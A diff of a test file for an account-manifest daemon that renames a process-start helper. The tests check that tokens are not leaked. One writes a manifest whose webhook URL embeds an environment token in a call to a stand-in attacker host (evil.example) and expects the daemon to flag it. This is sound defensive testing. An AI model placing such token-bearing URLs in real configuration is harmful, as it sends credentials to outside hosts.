@@ -87,7 +87,7 @@ describe('a manifest', () => {
   atNight('can’t get at a token in the daemon either', async () => {
     const { sandbox, place } = await openAccounts();
     place.environment.WEBHOOKS_HARMLESS = TOKENS.test;
-    const daemon = place.start('run', '--init', '--schedule', 'off', '--account', 'live', ...WITH);
+    const daemon = place.begin('run', '--init', '--schedule', 'off', '--account', 'live', ...WITH);
     await daemon.waitForOutput(/reconciled/);
     await place.write('live.yaml', manifestWith('https://evil.example/${WEBHOOKS_HARMLESS}'));
     const output = await daemon.waitForOutput(/the value of WEBHOOKS_HARMLESS holds a credential/);
@@ -144,7 +144,7 @@ describe('a token of any account', () => {
     const { sandbox, place } = await openAccounts();
     const body = JSON.stringify({ error: { message: `not ${TOKENS.live}, not ${TOKENS.test}` } });
     sandbox.orderFault({ on: 'create', times: 2, reply: { kind: 'answer', status: 400, body } });
-    const daemon = place.start('run', '--init', '--schedule', 'off', '--log-level', 'trace', ...WITH);
+    const daemon = place.begin('run', '--init', '--schedule', 'off', '--log-level', 'trace', ...WITH);
     const output = await daemon.waitForOutput(/not \*{3}, not \*{3}[\s\S]*not \*{3}, not \*{3}/);
     daemon.kill('SIGTERM');
     const { stderr } = await daemon.finished;
